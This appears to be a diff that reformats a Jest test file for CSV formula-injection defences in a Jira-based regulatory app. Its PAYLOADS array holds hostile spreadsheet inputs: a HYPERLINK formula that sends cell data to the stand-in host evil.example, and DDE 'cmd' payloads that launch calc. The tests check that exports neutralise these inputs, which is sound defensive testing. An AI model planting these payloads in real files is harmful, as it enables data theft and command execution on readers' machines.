@@ -16,7 +16,14 @@ import type { FaultSite } from '../faults/harness';
 jest.setTimeout(120_000);
 
 const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
-const PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const PAYLOADS = [
+  '=HYPERLINK("https://evil.example/?"&A1,"open")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 
 const RITA: string = SITE_ACCOUNTS.regulatory;
 const QUINN: string = SITE_ACCOUNTS.quality;
@@ -48,7 +55,10 @@ const qmsKeys = () =>
 
 describe('neutraliseCsvCell', () => {
   it.each(PAYLOADS)('prefixes a quote to %j', (payload) => expect(neutraliseCsvCell(payload)).toBe(`'${payload}`));
-  it.each(['', 'Aspirin 100 mg', "'=already quoted", ' =leading space', 'NDA-012345', '2026-01-15T10:00:00.000Z'])('leaves %j as it is', (value) => expect(neutraliseCsvCell(value)).toBe(value));
+  it.each(['', 'Aspirin 100 mg', "'=already quoted", ' =leading space', 'NDA-012345', '2026-01-15T10:00:00.000Z'])(
+    'leaves %j as it is',
+    (value) => expect(neutraliseCsvCell(value)).toBe(value),
+  );
 });
 
 describe('a quality engineer renames their records to formulas through Jira', () => {
@@ -56,7 +66,12 @@ describe('a quality engineer renames their records to formulas through Jira', ()
     const keys = qmsKeys();
     for (const [i, key] of keys.entries()) {
       const summary = PAYLOADS[i % PAYLOADS.length] ?? '';
-      const answer = await site.app.jira.handle({ method: 'PUT', path: `/rest/api/3/issue/${key}`, body: { fields: { summary } }, as: { kind: 'user', accountId: QUINN } });
+      const answer = await site.app.jira.handle({
+        method: 'PUT',
+        path: `/rest/api/3/issue/${key}`,
+        body: { fields: { summary } },
+        as: { kind: 'user', accountId: QUINN },
+      });
       expect({ key, status: answer.status }).toEqual({ key, status: 204 });
     }
     await site.app.whenIdle();
@@ -66,7 +81,13 @@ describe('a quality engineer renames their records to formulas through Jira', ()
     const submissions = Object.values(site.app.jira.snapshot().issues).filter((i) => i.key.startsWith('RIM-'));
     let records = 0;
     for (const { key } of submissions) {
-      const answer = await site.invoke({ module: 'readiness-panel', key: 'readiness/export', payload: { format: 'csv' }, extension: { type: 'jira:issuePanel', issue: { key }, project: { key: 'RIM' } }, accountId: RITA });
+      const answer = await site.invoke({
+        module: 'readiness-panel',
+        key: 'readiness/export',
+        payload: { format: 'csv' },
+        extension: { type: 'jira:issuePanel', issue: { key }, project: { key: 'RIM' } },
+        accountId: RITA,
+      });
       if (!answer.ok) continue;
       expect({ key, formulas: formulaCells(answer.data.content) }).toEqual({ key, formulas: [] });
       records += PAYLOADS.filter((p) => answer.data.content.includes(`'${p.replace(/"/g, '""')}`)).length;
@@ -75,7 +96,15 @@ describe('a quality engineer renames their records to formulas through Jira', ()
   });
 
   it('the macro CSV holds no formula cell, and its SHA-256 is of the file handed out', async () => {
-    const answer = dataOf(await site.invoke({ module: 'traceability-macro', key: 'traceability/export', payload: {}, extension: MACRO, accountId: RITA }));
+    const answer = dataOf(
+      await site.invoke({
+        module: 'traceability-macro',
+        key: 'traceability/export',
+        payload: {},
+        extension: MACRO,
+        accountId: RITA,
+      }),
+    );
     expect(answer.parts).toBe(1);
     expect(formulaCells(answer.content)).toEqual([]);
     expect(PAYLOADS.some((p) => answer.content.includes(`'${p.replace(/"/g, '""')}`))).toBe(true);
@@ -84,14 +113,24 @@ describe('a quality engineer renames their records to formulas through Jira', ()
 });
 
 describe('an admin names registry entries like formulas', () => {
-  const adminCall = <K extends 'admin/registry/import' | 'admin/registry/export' | 'admin/registry/get'>(key: K, payload: unknown) =>
-    site.invoke({ module: 'admin-page', key, payload, extension: ADMIN_PAGE, accountId: ADMIN });
+  const adminCall = <K extends 'admin/registry/import' | 'admin/registry/export' | 'admin/registry/get'>(
+    key: K,
+    payload: unknown,
+  ) => site.invoke({ module: 'admin-page', key, payload, extension: ADMIN_PAGE, accountId: ADMIN });
 
   it('the export neutralises them, and importing the export gives the same registry back', async () => {
     const before = dataOf(await adminCall('admin/registry/get', {})).registry;
     const hostile = {
       ...before,
-      products: before.products.map((p, i) => ({ ...p, name: i === 0 ? "'already quoted" : i === 1 ? "'=quoted formula" : (PAYLOADS[i % PAYLOADS.length] ?? p.name).trim() || p.name })),
+      products: before.products.map((p, i) => ({
+        ...p,
+        name:
+          i === 0
+            ? "'already quoted"
+            : i === 1
+              ? "'=quoted formula"
+              : (PAYLOADS[i % PAYLOADS.length] ?? p.name).trim() || p.name,
+      })),
       sites: before.sites.map((s) => ({ ...s, name: `-${s.name}` })),
       suppliers: before.suppliers.map((s) => ({ ...s, name: `@${s.name}` })),
       applications: before.applications.map((a) => ({ ...a, number: `+${a.number}` })),
